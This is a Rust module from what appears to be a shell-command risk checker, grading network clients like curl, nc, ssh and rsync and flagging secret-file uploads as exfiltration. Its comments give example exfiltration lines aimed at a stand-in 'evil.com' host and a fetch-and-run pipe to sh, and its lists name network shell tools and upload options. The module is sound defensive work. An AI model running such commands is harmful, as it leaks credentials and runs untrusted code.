//! Network clients: fetching is MEDIUM; uploading a secret is exfiltration (CRITICAL,
//! decided together with the other commands of the line); remote shells run their
//! command elsewhere, which we still judge.

use super::super::level::RiskLevel;
use super::super::shell::words::Arg;
use super::super::verdict::Finding;
use super::files::option_values;
use super::{Invocation, Nested, Ruling, operands};

/// Options of curl/wget/httpie that upload the content of a file given as `@file` or a path.
const UPLOAD_OPTIONS: &[&str] = &[
    "-d",
    "--data",
    "--data-binary",
    "--data-raw",
    "--data-urlencode",
    "-F",
    "--form",
    "-T",
    "--upload-file",
    "--post-file",
    "--body-file",
    "--json",
];

/// Judges network clients; `None` for other commands.
pub(crate) fn judge(name: &str, inv: &Invocation<'_>) -> Option<Ruling> {
    let judgement = match name {
        "curl" | "wget" | "http" | "https" | "httpie" | "xh" | "aria2c" => fetch(name, inv),
        "nc" | "ncat" | "netcat" | "socat" | "telnet" | "ftp" | "sftp" | "tftp" => Ruling::of(
            RiskLevel::Medium,
            "network.raw-socket",
            format!("{name} opens a network connection"),
        )
        .networked(),
        "scp" | "rsync" => copy_remote(name, inv),
        "ssh" | "mosh" => ssh(name, inv),
        "psql" | "mysql" | "mariadb" | "mongo" | "mongosh" | "redis-cli" | "sqlcmd" | "cqlsh"
        | "clickhouse-client" | "pg_dump" | "pg_restore" | "mysqldump" => Ruling::of(
            RiskLevel::Medium,
            "network.database",
            format!("{name} talks to a database server"),
        )
        .networked(),
        "dig" | "nslookup" | "host" | "drill" | "ping" | "ping6" | "traceroute" | "traceroute6"
        | "tracepath" | "mtr" | "whois" | "arping" | "nmap" | "getent" | "resolvectl" => {
            Ruling::of(
                RiskLevel::Medium,
                "network.lookup",
                format!("{name} queries the network (DNS or ICMP can carry data out)"),
            )
            .networked()
        }
        _ => return None,
    };
    Some(judgement.raise(dynamic_destination(name, inv)))
}

/// A destination built at run time (`curl https://x/$(whoami)`, `dig $(cat f).evil.com`) is
/// the shape of exfiltration.
fn dynamic_destination(name: &str, inv: &Invocation<'_>) -> Finding {
    let dynamic = inv
        .args()
        .iter()
        .any(|a| !a.text.starts_with('-') && (a.dynamic || a.secret_var));
    if dynamic {
        Finding::new(
            RiskLevel::High,
            "network.dynamic-destination",
            format!("{name} is given a destination or data known only at run time"),
        )
    } else {
        Finding::new(RiskLevel::Low, "network.fetch", "")
    }
}

fn fetch(name: &str, inv: &Invocation<'_>) -> Ruling {
    let args = inv.args();
    let urls: Vec<&Arg> = operands(args)
        .into_iter()
        .filter(|a| looks_like_url(&a.text))
        .collect();
    let loopback = !urls.is_empty() && urls.iter().all(|a| !a.dynamic && is_loopback(&a.text));
    let mut judgement = if loopback {
        // Still the network for what follows it: `curl localhost/x.sh | sh` runs downloaded
        // code.
        Ruling::of(
            RiskLevel::Medium,
            "network.loopback",
            format!("{name} talks to a server on this machine"),
        )
        .networked()
    } else {
        Ruling::of(
            RiskLevel::Medium,
            "network.fetch",
            format!("{name} talks to the network"),
        )
        .networked()
    };
    for (i, arg) in args.iter().enumerate() {
        let text = arg.text.as_str();
        let (option, inline_value) = match text.split_once('=') {
            Some((o, v)) if o.starts_with("--") => (o, Some(v)),
            _ => (text, None),
        };
        if !UPLOAD_OPTIONS.contains(&option) {
            continue;
        }
        let value = match inline_value {
            Some(v) => arg.part(v),
            None => match args.get(i + 1) {
                Some(v) => v.clone(),
                None => continue,
            },
        };
        let file = uploaded_file(option, &value);
        if let Some(file) = file
            && inv.is_secret(&file)
        {
            judgement.facts.reads_secret = true;
            judgement = judgement.raise(Finding::new(
                RiskLevel::Critical,
                "secrets.exfiltration",
                format!("{name} uploads secret file {}", file.text),
            ));
        }
    }
    for (i, arg) in args.iter().enumerate() {
        let t = arg.text.as_str();
        let clustered = t.len() > 2 && t.starts_with('-') && !t.starts_with("--");
        if clustered
            && (t.ends_with('o') || (name == "wget" && t.ends_with('O')))
            && let Some(target) = args.get(i + 1)
        {
            judgement = judgement.raise(inv.write_to(target));
        }
        if let Some(target) = t
            .strip_prefix("--output=")
            .or_else(|| t.strip_prefix("--output-document="))
        {
            judgement = judgement.raise(inv.write_to(&arg.part(target)));
        }
    }
    for target in option_values(args, &["-o", "--output", "-O", "--output-document"]) {
        if target.text != "-" {
            judgement = judgement.raise(inv.write_to(target));
        }
    }
    judgement
}

/// A URL or a `host:port` / `host/path` destination.
fn looks_like_url(text: &str) -> bool {
    let host_port = text
        .split('/')
        .next()
        .and_then(|authority| authority.rsplit_once(':'))
        .is_some_and(|(host, port)| !host.is_empty() && port.bytes().all(|b| b.is_ascii_digit()));
    text.contains("://")
        || text.starts_with("localhost")
        || text.starts_with("127.")
        || text.starts_with("[::1]")
        || host_port
}

/// `http://localhost:8000/x`, `127.0.0.1:3000`, `[::1]:8080`: this machine's loopback.
fn is_loopback(url: &str) -> bool {
    let rest = url.split_once("://").map_or(url, |(scheme, rest)| {
        if matches!(scheme, "http" | "https") {
            rest
        } else {
            ""
        }
    });
    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
    if authority.contains('@') {
        return false;
    }
    let host = if let Some(v6) = authority.strip_prefix('[') {
        v6.split(']').next().unwrap_or("")
    } else {
        authority.rsplit_once(':').map_or(authority, |(h, _)| h)
    };
    host == "localhost"
        || host == "::1"
        || (host.starts_with("127.")
            && host.split('.').count() == 4
            && host.split('.').all(|p| p.parse::<u8>().is_ok()))
}

/// The file an upload option reads: `@file` (or `name=@file` for forms), or the value
/// itself for options that always take a file.
fn uploaded_file(option: &str, value: &Arg) -> Option<Arg> {
    if matches!(
        option,
        "-T" | "--upload-file" | "--post-file" | "--body-file"
    ) {
        return Some(value.clone());
    }
    let at = value.text.find('@')?;
    let file = value.text[at + 1..].split(';').next().unwrap_or("");
    Some(value.part(file))
}

fn copy_remote(name: &str, inv: &Invocation<'_>) -> Ruling {
    let ops = operands(inv.args());
    let mut judgement = Ruling::of(
        RiskLevel::Medium,
        "network.copy",
        format!("{name} copies over the network"),
    )
    .networked();
    if let Some((_, sources)) = ops.split_last()
        && let Some(secret) = sources
            .iter()
            .find(|s| !s.text.contains(':') && inv.is_secret(s))
    {
        judgement.facts.reads_secret = true;
        judgement = judgement.raise(Finding::new(
            RiskLevel::Critical,
            "secrets.exfiltration",
            format!("{name} sends secret {}", secret.text),
        ));
    }
    if let Some(dest) = ops.last()
        && !dest.text.contains(':')
    {
        // A local destination is a write like `cp`'s.
        judgement = judgement.raise(inv.write_to(dest));
    }
    if inv.args().iter().any(|a| a.text.starts_with("--delete")) {
        judgement = judgement.raise(Finding::new(
            RiskLevel::High,
            "network.rsync-delete",
            "rsync --delete removes files at the destination",
        ));
    }
    judgement
}

/// `ssh host CMD…` runs CMD on another machine; we judge CMD as shell text all the same.
fn ssh(name: &str, inv: &Invocation<'_>) -> Ruling {
    const WITH_VALUE: &[&str] = &[
        "-p", "-i", "-l", "-o", "-F", "-J", "-L", "-R", "-D", "-b", "-c", "-E", "-e", "-m", "-O",
        "-Q", "-S", "-W", "-w", "-B", "-I",
    ];
    let args = inv.args();
    let mut i = 0;
    while i < args.len() && args[i].text.starts_with('-') {
        i += if WITH_VALUE.contains(&args[i].text.as_str()) {
            2
        } else {
            1
        };
    }
    let judgement = Ruling::of(
        RiskLevel::Medium,
        "network.remote-shell",
        format!("{name} runs commands on another host"),
    )
    .networked();
    match args.get(i + 1..) {
        Some(command) if !command.is_empty() => {
            let script: Vec<&str> = command.iter().map(|a| a.text.as_str()).collect();
            judgement.with_nested(Nested::Script(script.join(" ")))
        }
        _ => judgement,
    }
}
